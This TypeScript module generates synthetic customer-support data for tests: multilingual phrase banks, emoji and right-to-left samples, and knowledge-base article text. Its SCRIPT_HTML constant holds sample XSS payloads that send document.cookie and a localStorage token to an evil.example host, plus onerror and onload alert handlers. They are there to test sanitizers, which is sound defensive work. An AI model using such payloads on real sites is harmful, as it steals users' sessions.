/**
 * The words of the dataset: support-desk phrase banks, non-Latin and emoji samples, hostile
 * HTML, and the builders that turn them into interaction and article bodies. Every builder
 * draws from the Faker it is given, so the text is as deterministic as the record.
 */
import type { Faker } from '@faker-js/faker';

/** A script class planted in names and bodies. */
export type UnicodeSample = 'cjk' | 'japanese' | 'cyrillic' | 'arabic' | 'hebrew' | 'emoji';

/**
 * Names and bodies in non-Latin scripts, right-to-left scripts and with emoji (including a
 * skin-tone modifier and a ZWJ sequence, which break naive length and slicing code).
 *
 * @example
 * UNICODE_TEXT.arabic.name.display; // 'محمد الأحمد'
 */
export const UNICODE_TEXT: Readonly<Record<UnicodeSample, { name: { first: string; last: string; display: string }; body: string }>> = {
  cjk: { name: { first: '小明', last: '王', display: '王小明' }, body: '您好，我上周订购的耳机还没有到货。订单号是 {order}，请帮我查一下物流状态。谢谢！' },
  japanese: { name: { first: '太郎', last: '田中', display: '田中 太郎' }, body: 'こんにちは。注文した商品（{order}）がまだ届いていません。配送状況を確認していただけますか？' },
  cyrillic: { name: { first: 'Иван', last: 'Петров', display: 'Иван Петров' }, body: 'Здравствуйте! После смены пароля не могу войти в аккаунт. Заказ {order}. Помогите, пожалуйста.' },
  arabic: { name: { first: 'محمد', last: 'الأحمد', display: 'محمد الأحمد' }, body: 'مرحبا، لم يصل طلبي رقم {order} حتى الآن. هل يمكنكم مساعدتي في تتبع الشحنة؟ شكرا لكم.' },
  hebrew: { name: { first: 'דוד', last: 'כהן', display: 'דוד כהן' }, body: 'שלום, החשבון שלי ננעל אחרי עדכון הסיסמה. מספר ההזמנה הוא {order}. תודה רבה!' },
  emoji: { name: { first: 'Sam 🚀', last: 'Rivera', display: 'Sam 🚀 Rivera 👩🏽‍💻' }, body: 'Package arrived 📦 but the box was crushed 😭🙏 Order {order}. Can you send a replacement? 👍🏽👨‍👩‍👧' },
};

/**
 * Hostile HTML planted in bodies: a `<script>` element and inline event handlers
 * (`onerror=`, `onclick=`, `onload=`). A sanitizer must strip them; a migration must not
 * execute or drop the surrounding text.
 *
 * @example
 * SCRIPT_HTML.interaction.includes('<script>'); // true
 */
export const SCRIPT_HTML = {
  interaction:
    '<p>Here is the error page I keep seeing:</p><script>document.location="https://evil.example/steal?c="+document.cookie</script>' +
    '<img src="x" onerror="alert(\'xss\')"><p><a href="#" onclick="fetch(\'https://evil.example/\'+localStorage.token)">click here</a> to reproduce.</p>',
  article:
    '<p>Embed the status widget as shown below.</p><script type="text/javascript">window.__track=function(){new Image().src="https://evil.example/t?"+document.cookie};__track()</script>' +
    '<div onclick="__track()"><img src="/t5/image/serverpage/image-id/0iBROKEN/image-size/large?v=v2&px=999" onerror="this.onerror=null;__track()"></div>' +
    '<svg onload="alert(1)"><circle r="4"></circle></svg>',
} as const;

interface Topic {
  key: string;
  title: string[];
  customer: string[];
  agent: string[];
}

const TOPICS: readonly Topic[] = [
  {
    key: 'shipping',
    title: ['Where is my order {order}?', 'Order {order} not delivered', 'Tracking stuck for {order}', 'Late delivery of {product}'],
    customer: [
      'My order {order} was supposed to arrive on {date} but the tracking has not moved for days.',
      'I ordered the {product} two weeks ago and still nothing. Can you check order {order}?',
      'The courier says delivered but there is no parcel at my door. Order {order}.',
    ],
    agent: [
      'I checked order {order}: the carrier lost the scan at the depot. I have opened a trace and will update you within 48 hours.',
      'Sorry about the delay. Order {order} is back in transit and should reach you by {date}.',
      'I have reshipped the {product} with express delivery at no cost. The new tracking number is in your inbox.',
    ],
  },
  {
    key: 'billing',
    title: ['Charged twice for {order}', 'Refund request {order}', 'Question about invoice', 'Unexpected charge of {amount}'],
    customer: [
      'I was charged {amount} twice for order {order}. Please refund the duplicate.',
      'Why did my card get charged {amount} this month? I cancelled in {month}.',
      'I returned the {product} on {date} and have not received my refund yet.',
    ],
    agent: [
      'You are right, the second charge of {amount} was a duplicate. The refund is on its way and takes 3 to 5 business days.',
      'I can see the cancellation, but the renewal ran an hour earlier. I have refunded {amount} to your card.',
      'The refund for the {product} was issued on {date}; banks usually post it within a week.',
    ],
  },
  {
    key: 'account',
    title: ['Cannot log in', 'Password reset email never arrives', 'Account locked', 'Change the email on my account'],
    customer: [
      'I cannot log in since yesterday, it says my password is wrong even after a reset.',
      'The password reset email never arrives. I checked spam too.',
      'My account got locked after too many attempts. Can you unlock it?',
    ],
    agent: [
      'I have unlocked your account and sent a fresh reset link. It expires in 30 minutes.',
      'Our mail provider had delays this morning. Please try the reset again now; it should arrive within a minute.',
      'For security I need to confirm the last four digits of the card on file before I change the email.',
    ],
  },
  {
    key: 'product',
    title: ['{product} stopped working', 'Defective {product}', 'Warranty claim for {product}', '{product} firmware update failed'],
    customer: [
      'My {product} stopped charging after the latest update.',
      'The {product} I received is scratched and one button does not work.',
      'Is the {product} still under warranty? I bought it on {date}.',
    ],
    agent: [
      'Please hold the power button for 15 seconds to reset the {product}, then try the update again.',
      'That looks like a manufacturing defect. I have started a warranty replacement for your {product}.',
      'Your {product} is covered until {date}. I will email you a prepaid return label.',
    ],
  },
  {
    key: 'feedback',
    title: ['Great service!', 'Suggestion for the app', 'Complaint about the store visit', 'Feature request: dark mode'],
    customer: [
      'Just wanted to say the team was fantastic with my {product} issue. Thank you!',
      'It would be great if the app had a dark mode and offline lists.',
      'The staff at the store were rude when I tried to return the {product}.',
    ],
    agent: [
      'Thank you for the kind words, I will pass them on to the team!',
      'Thanks for the idea. I have logged it with our product team under request {ticket}.',
      'I am sorry about that experience. I have shared it with the store manager and added a {amount} credit to your account.',
    ],
  },
];

const NOTES = [
  'Customer called twice about this, please prioritise.',
  'Checked with the warehouse: parcel scanned at the hub on {date}.',
  'Refund approved by team lead, see ticket {ticket}.',
  'Possible fraud pattern, do not reissue without verification.',
  'Escalated to tier 2, waiting on engineering.',
  'VIP customer, keep the tone personal.',
];

/** The fill-ins of one case, drawn once so every message of the case agrees. */
export interface TextContext {
  topic: number;
  first: string;
  product: string;
  order: string;
  amount: string;
  ticket: string;
  month: string;
  dateText: string;
}

/**
 * Draws the fill-ins shared by the messages of one case.
 *
 * @example
 * const ctx = textContext(f, 'Jane', Date.UTC(2024, 0, 5));
 */
export function textContext(f: Faker, first: string, around: number): TextContext {
  return {
    topic: f.number.int({ min: 0, max: TOPICS.length - 1 }),
    first,
    product: f.commerce.productName(),
    order: `ORD-${f.string.numeric({ length: 7, allowLeadingZeros: true })}`,
    amount: `$${f.number.int({ min: 5, max: 900 })}.${f.string.numeric({ length: 2, allowLeadingZeros: true })}`,
    ticket: `PRJ-${f.number.int({ min: 100, max: 9999 })}`,
    month: f.date.month(),
    dateText: new Date(around + f.number.int({ min: -20, max: 20 }) * 86_400_000).toISOString().slice(0, 10),
  };
}

function fill(template: string, ctx: TextContext): string {
  return template
    .replaceAll('{order}', ctx.order)
    .replaceAll('{product}', ctx.product)
    .replaceAll('{amount}', ctx.amount)
    .replaceAll('{ticket}', ctx.ticket)
    .replaceAll('{month}', ctx.month)
    .replaceAll('{date}', ctx.dateText)
    .replaceAll('{first}', ctx.first);
}

/**
 * A case title for the case's topic.
 *
 * @example
 * caseTitle(f, ctx); // 'Charged twice for ORD-0042137'
 */
export function caseTitle(f: Faker, ctx: TextContext): string {
  return fill(f.helpers.arrayElement(TOPICS[ctx.topic].title), ctx);
}

/**
 * A customer's message: HTML paragraphs for email, one line of text for chat and social.
 *
 * @example
 * customerMessage(f, ctx, 'email'); // '<p>Hello,</p><p>My order ...</p><p>Jane</p>'
 */
export function customerMessage(f: Faker, ctx: TextContext, channel: string, followUp: boolean): string {
  const topic = TOPICS[ctx.topic];
  const core = followUp
    ? f.helpers.arrayElement(['Thanks, but it is still not fixed.', 'Any update on this?', 'Great, that worked!', 'I tried that and got the same error.', 'OK, I will wait.', 'Can I get this escalated please?'])
    : fill(f.helpers.arrayElement(topic.customer), ctx);
  if (channel !== 'email') return core;
  return `<p>${f.helpers.arrayElement(['Hello,', 'Hi,', 'Hi there,', 'Dear support,'])}</p><p>${core}</p><p>${f.lorem.sentence()}</p><p>${ctx.first}</p>`;
}

/**
 * An agent's public reply, signed with the agent's first name and the brand.
 *
 * @example
 * agentReply(f, ctx, 'chat', 'Ada', 'Northwind'); // 'Hi Jane, ... — Ada, Northwind Support'
 */
export function agentReply(f: Faker, ctx: TextContext, channel: string, agentFirst: string, brand: string): string {
  const core = fill(f.helpers.arrayElement(TOPICS[ctx.topic].agent), ctx);
  if (channel !== 'email') return `Hi ${ctx.first}, ${core} ^${agentFirst.charAt(0)}`;
  return `<p>Hi ${ctx.first},</p><p>${core}</p><p>Best regards,<br>${agentFirst}<br>${brand} Support</p>`;
}

/**
 * An internal note between agents.
 *
 * @example
 * internalNote(f, ctx); // '<p>Escalated to tier 2, waiting on engineering.</p>'
 */
export function internalNote(f: Faker, ctx: TextContext): string {
  return `<p>${fill(f.helpers.arrayElement(NOTES), ctx)}</p>`;
}

/**
 * Fills a `UNICODE_TEXT` body with the case's order number.
 *
 * @example
 * unicodeBody('hebrew', ctx);
 */
export function unicodeBody(sample: UnicodeSample, ctx: TextContext): string {
  return `<p>${fill(UNICODE_TEXT[sample].body, ctx)}</p>`;
}

const SUBJECTS: Record<string, string[]> = {
  en: ['How to reset your password', 'Tracking your order', 'Returns and refunds policy', 'Setting up {product}', 'Troubleshooting {product} connection issues', 'Updating your payment method', 'Warranty coverage explained', 'Using two-factor authentication', 'Shipping times by region', 'Cancelling a subscription'],
  fr: ['Comment réinitialiser votre mot de passe', 'Suivre votre commande', 'Politique de retour et de remboursement', 'Configurer {product}', 'Mettre à jour votre moyen de paiement'],
  de: ['So setzen Sie Ihr Passwort zurück', 'Bestellung verfolgen', 'Rückgabe und Erstattung', '{product} einrichten', 'Zahlungsmethode ändern'],
  es: ['Cómo restablecer tu contraseña', 'Seguimiento de tu pedido', 'Política de devoluciones', 'Configurar {product}'],
  ja: ['パスワードをリセットする方法', '注文の追跡', '返品と返金について', '{product}の設定方法', '支払い方法の変更'],
  ar: ['كيفية إعادة تعيين كلمة المرور', 'تتبع طلبك', 'سياسة الإرجاع والاسترداد', 'إعداد {product}'],
  he: ['איך לאפס את הסיסמה', 'מעקב אחר ההזמנה', 'מדיניות החזרות', 'הגדרת {product}'],
};

const PARAGRAPHS: Record<string, string[]> = {
  en: [
    'This article explains the steps and the most common problems.',
    'Before you start, make sure the app is updated to the latest version.',
    'Most customers finish this in under five minutes.',
    'If the steps below do not help, reply to your last support email and we will take a look.',
    'Changes can take up to 24 hours to show on every device.',
    'You need to be signed in to your account for these options to appear.',
  ],
  fr: ['Suivez les étapes ci-dessous pour résoudre le problème.', 'Si le problème persiste, contactez notre équipe d’assistance.', 'Cette opération prend généralement moins de cinq minutes.'],
  de: ['Folgen Sie den unten stehenden Schritten, um das Problem zu lösen.', 'Wenn das Problem weiterhin besteht, wenden Sie sich an unseren Support.', 'Der Vorgang dauert in der Regel weniger als fünf Minuten.'],
  es: ['Sigue los pasos a continuación para resolver el problema.', 'Si el problema continúa, contacta con nuestro equipo de soporte.'],
  ja: ['以下の手順に従って問題を解決してください。', '問題が解決しない場合は、サポートチームまでお問い合わせください。', 'この操作は通常5分以内に完了します。'],
  ar: ['اتبع الخطوات أدناه لحل المشكلة.', 'إذا استمرت المشكلة، يرجى التواصل مع فريق الدعم.', 'تستغرق هذه العملية عادةً أقل من خمس دقائق.'],
  he: ['בצעו את השלבים הבאים כדי לפתור את הבעיה.', 'אם הבעיה נמשכת, פנו לצוות התמיכה שלנו.', 'התהליך נמשך בדרך כלל פחות מחמש דקות.'],
};

/**
 * A KB article subject in the article's language.
 *
 * @example
 * articleSubject(f, 'fr'); // 'Suivre votre commande'
 */
export function articleSubject(f: Faker, language: string): string {
  const product = f.commerce.product();
  return f.helpers.arrayElement(SUBJECTS[language] ?? SUBJECTS.en).replaceAll('{product}', product);
}

/**
 * One paragraph of article prose in the article's language.
 *
 * @example
 * articleParagraph(f, 'ja');
 */
export function articleParagraph(f: Faker, language: string): string {
  return f.helpers.arrayElement(PARAGRAPHS[language] ?? PARAGRAPHS.en);
}

const STEPS = [
  'Open <strong>Settings</strong> and choose <em>Account</em>.',
  'Select {product} from the list of devices.',
  'Tap <strong>Check for updates</strong> and wait for the download to finish.',
  'Sign out, then sign in again with your email address.',
  'Open <strong>Orders</strong> and pick the order you want to change.',
  'Choose <em>Return or replace items</em> and follow the prompts.',
  'Restart {product} by holding the power button for ten seconds.',
  'Copy the confirmation code and keep it for your records.',
];

/**
 * One numbered step of an article (HTML inline markup allowed).
 *
 * @example
 * articleStep(f); // 'Open <strong>Settings</strong> and choose <em>Account</em>.'
 */
export function articleStep(f: Faker): string {
  return f.helpers.arrayElement(STEPS).replaceAll('{product}', f.commerce.product());
}

/**
 * A URL path segment as Community writes them: words joined by hyphens, non-ASCII
 * percent-encoded.
 *
 * @example
 * urlSlug('How to reset your password'); // 'How-to-reset-your-password'
 */
export function urlSlug(text: string): string {
  const words = text.replace(/[^\p{L}\p{N}]+/gu, ' ').trim().split(/\s+/).filter(Boolean);
  return encodeURIComponent(words.join('-') || 'article');
}

/**
 * A lower-case ASCII slug for ids and e-mail local parts (`O'Neil-Smith` → `oneil-smith`).
 *
 * @example
 * asciiSlug('Zoë O\'Neil'); // 'zoe-oneil'
 */
export function asciiSlug(text: string): string {
  return text
    .normalize('NFKD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .replace(/['’]/g, '')
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '');
}
